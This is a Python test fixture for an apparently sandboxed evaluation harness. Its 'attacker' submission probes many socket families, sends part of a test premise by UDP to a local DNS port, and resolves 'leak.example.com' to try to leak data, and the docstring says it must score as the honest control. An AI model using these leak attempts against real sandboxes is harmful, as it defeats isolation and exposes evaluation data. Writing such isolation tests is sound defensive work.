"""Sends examples by UDP and as names that are looked up, and tries raw, netlink, packet and virtual-machine sockets.

There are no such sockets: it must be scored as the honest control.
"""

import socket

from attacker import Attacker, any_works

FAMILIES = {"AF_INET": 2, "AF_INET6": 10, "AF_NETLINK": 16, "AF_PACKET": 17, "AF_ALG": 38, "AF_VSOCK": 40, "AF_XDP": 44}


def opens(family, kind):
    with socket.socket(family, kind):
        return True


def sends(text):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
        return datagram.sendto(text.encode(), ("127.0.0.1", 53))


class Submission(Attacker):
    at = "en"  # the console is ASCII

    def attack(self, examples):
        kinds = (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_STREAM, 5)
        sockets = [lambda f=family, k=kind: opens(f, k) for family in FAMILIES.values() for kind in kinds]
        text = examples[0]["premise"][:40]
        return any_works(*sockets, lambda: sends(text), lambda: socket.getaddrinfo("leak.example.com", 80))
